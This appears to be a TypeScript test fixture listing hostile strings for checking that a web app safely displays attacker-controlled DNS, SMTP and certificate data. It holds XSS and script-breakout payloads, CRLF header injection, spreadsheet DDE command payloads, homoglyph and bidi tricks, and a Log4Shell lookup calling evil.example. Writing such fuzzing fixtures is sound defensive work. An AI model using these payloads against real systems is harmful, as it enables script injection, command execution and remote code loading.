/** What an attacker may put into a TXT record, a host name, an SMTP reply or a certificate. */
const MARK = "window.__ran=1";

const MARKUP = [
  `<script>${MARK}</script>`,
  `</script><script>${MARK}</script>`,
  `<ScRiPt>${MARK}</sCrIpT>`,
  `<script src=//evil.example/x.js></script>`,
  `<script type=module>${MARK}</script>`,
  `<img src=x onerror=${MARK}>`,
  `<img src=x onerror="${MARK}">`,
  `"><img src=x onerror=${MARK}>`,
  `'><img src=x onerror=${MARK}>`,
  `--><img src=x onerror=${MARK}>`,
  `]]><img src=x onerror=${MARK}>`,
  `<svg onload=${MARK}>`,
  `<svg><script>${MARK}</script></svg>`,
  `<svg><animate onbegin=${MARK} attributeName=x dur=1s>`,
  `<svg><foreignObject><img src=x onerror=${MARK}></foreignObject></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id=x onload=${MARK}/>#x"/></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${MARK}>`,
  `<iframe src="javascript:${MARK}"></iframe>`,
  `<iframe srcdoc="<script>parent.${MARK}</script>"></iframe>`,
  `<object data="javascript:${MARK}"></object>`,
  `<embed src="javascript:${MARK}">`,
  `<a href="javascript:${MARK}">x</a>`,
  `<a href="data:text/html,<script>${MARK}</script>">x</a>`,
  `<form action="javascript:${MARK}"><button>x</button></form>`,
  `<button formaction="javascript:${MARK}">x</button>`,
  `<input autofocus onfocus=${MARK}>`,
  `<details open ontoggle=${MARK}>`,
  `<video><source onerror=${MARK}></video>`,
  `<audio src=x onerror=${MARK}>`,
  `<body onload=${MARK}>`,
  `<marquee onstart=${MARK}>`,
  `<link rel=stylesheet href=//evil.example/x.css>`,
  `<link rel=import href=//evil.example/x.html>`,
  `<base href=//evil.example/>`,
  `<meta http-equiv=refresh content="0;url=javascript:${MARK}">`,
  `<meta http-equiv=refresh content="0;url=//evil.example/">`,
  `<style>@import "//evil.example/x.css";</style>`,
  `<style>*{background:url(//evil.example/x)}</style>`,
  `<div style="background:url(//evil.example/x)">`,
  `<template><script>${MARK}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${MARK}>">`,
  `<textarea></textarea><img src=x onerror=${MARK}>`,
  `<title></title><img src=x onerror=${MARK}>`,
  `<xmp></xmp><img src=x onerror=${MARK}>`,
  `<!--><img src=x onerror=${MARK}>-->`,
  `<![CDATA[<img src=x onerror=${MARK}>]]>`,
  `<?xml version="1.0"?><img src=x onerror=${MARK}>`,
  `&lt;img src=x onerror=${MARK}&gt;`,
  `&#60;img src=x onerror=${MARK}&#62;`,
  `\\u003cimg src=x onerror=${MARK}\\u003e`,
  `%3Cimg%20src=x%20onerror=${MARK}%3E`,
  `＜img src=x onerror=${MARK}＞`,
  `<img/src=x/onerror=${MARK}//`,
  `<img src=x onerror=${MARK}`,
  `<<img src=x onerror=${MARK}>>`,
  `<img\tsrc=x\nonerror=${MARK}>`,
  `<img src=x:alert onerror=eval(this.alt) alt="${MARK}">`,
] as const;

const SCRIPT_CONTEXTS = [
  `';${MARK};//`,
  `";${MARK};//`,
  `\`;${MARK};//`,
  `\${${MARK}}`,
  `{{${MARK}}}`,
  `{{constructor.constructor('${MARK}')()}}`,
  `javascript:${MARK}`,
  `JaVaScRiPt:${MARK}`,
  `java\tscript:${MARK}`,
  `data:text/html;base64,PHNjcmlwdD53aW5kb3cuX19yYW49MTwvc2NyaXB0Pg==`,
  `vbscript:x`,
  `*/${MARK}/*`,
  `\\';${MARK};//`,
  `\u2028${MARK}\u2029`,
  `__proto__`,
  `constructor`,
  `</textarea><script>${MARK}</script>`,
  `</style><script>${MARK}</script>`,
  `</svg><script>${MARK}</script>`,
  `</title><script>${MARK}</script>`,
] as const;

const DECEPTIONS = [
  "\u202Egnp.elif\u202C",
  "\u2066\u2067\u2068abc\u2069\u2069\u2069",
  "pay\u200Bpal.com",
  "\u200E\u200F\u061C",
  "\uFEFFv=spf1",
  "a\u00ADb",
  "\u0000\u0001\u001F\u007F\u0085",
  "\u001B[31mred\u001B[0m",
  "\u0008\u0008\u0008",
  "line\r\nSet-Cookie: x=1",
  "line\u2028separator\u2029paragraph",
  "\u{E0041}\u{E0042}tags",
  "\uD800lone\uDFFF",
  "Z\u0351\u036B\u0343a\u0300\u0301\u0302lgo",
  "\u3164\u115F\u2800blank",
  "аррӏе.example",
  "\uFFFE\uFFFF",
  "\u{1F600}".repeat(50),
  "W".repeat(5_000),
  "\u0645".repeat(500),
  "=cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "${jndi:ldap://evil.example/x}",
] as const;

export const HOSTILE_TEXTS: readonly string[] = [...MARKUP, ...SCRIPT_CONTEXTS, ...DECEPTIONS];

/** The same value with the text in place of every string that a stranger can have written. */
export function withHostileText<Value>(value: Value, text: string, kept: ReadonlySet<string>): Value {
  const replaced = (part: unknown, key: string): unknown => {
    if (typeof part === "string") return kept.has(key) ? part : text;
    if (Array.isArray(part)) return part.map(one => replaced(one, key));
    if (part === null || typeof part !== "object") return part;
    return Object.fromEntries(Object.entries(part).map(([name, inner]) => [name, replaced(inner, name)]));
  };
  // The shape stays the same: strings become strings.
  return replaced(value, "") as Value;
}
